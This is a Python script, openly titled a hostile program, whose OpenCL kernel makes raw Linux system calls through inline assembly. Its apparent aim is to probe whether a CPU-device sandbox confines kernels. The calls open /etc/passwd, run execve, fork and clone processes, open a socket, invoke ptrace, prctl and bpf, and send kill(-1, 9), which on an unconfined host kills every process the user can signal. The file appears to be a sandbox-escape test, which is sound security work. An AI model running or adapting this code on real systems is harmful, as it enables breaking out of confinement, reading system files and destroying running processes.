# SPDX-License-Identifier: Apache-2.0
"""A hostile program: its kernel makes system calls with inline assembly, which is possible on a CPU device.

    python escaping.py

Prints a JSON object with the result of each call. If the OpenCL device is the CPU, the results come from the host's
kernel, which answers the process that runs OpenCL kernels.
"""

import json

import numpy as np
import pyopencl as cl

SOURCE = """
__kernel void escape(__global const long *calls, __global uchar *text, __global long *results)
{
    int i = get_global_id(0);
    __global const long *call = calls + 6 * i;
    long result, first = call[1], second = call[2];

    if (call[5] & 1)
        first = (long)(text + first);
    if (call[5] & 2)
        second = (long)(text + second);
    __asm__ volatile("movq %5, %%r10; syscall"
                     : "=a"(result)
                     : "a"(call[0]), "D"(first), "S"(second), "d"(call[3]), "r"(call[4])
                     : "rcx", "r11", "r10", "memory");
    results[i] = result;
}
"""

TEXT = b"/etc/passwd\0/usr/bin/ld\0/tmp/kernel\0"
PASSWD, LD, SCRATCH = 0, TEXT.index(b"/usr"), TEXT.index(b"/tmp")
FIRST, SECOND = 1, 2
# The system call's number, its four arguments, and which of the first two are offsets in TEXT.
CALLS = {
    "getpid": (39, 0, 0, 0, 0, 0),
    "fork": (57, 0, 0, 0, 0, 0),
    "clone": (56, 17, 0, 0, 0, 0),
    "execve": (59, LD, 0, 0, 0, FIRST),
    "open passwd": (2, PASSWD, 0, 0, 0, FIRST),
    "openat passwd": (257, -100, PASSWD, 0, 0, SECOND),
    "socket": (41, 2, 1, 0, 0, 0),
    "kill everybody": (62, -1, 9, 0, 0, 0),
    "ptrace": (101, 16, 1, 0, 0, 0),
    "survive": (157, 1, 0, 0, 0, 0),
    "send to nobody": (44, 2, 0, 0, 0, 0),
    "bpf": (321, 0, 0, 0, 0, 0),
}


def main() -> None:
    context = cl.create_some_context(interactive=False)
    queue = cl.CommandQueue(context)
    flags = cl.mem_flags.READ_WRITE | cl.mem_flags.COPY_HOST_PTR
    calls = np.array(list(CALLS.values()), dtype=np.int64)
    results = np.zeros(len(CALLS), dtype=np.int64)
    buffers = [cl.Buffer(context, flags, hostbuf=array) for array in (calls, np.frombuffer(TEXT, np.uint8), results)]
    kernel = cl.Kernel(cl.Program(context, SOURCE).build(), "escape")
    kernel(queue, (len(CALLS),), (1,), *buffers)
    cl.enqueue_copy(queue, results, buffers[2])
    print(json.dumps(dict(zip(CALLS, results.tolist(), strict=True))))


if __name__ == "__main__":
    main()
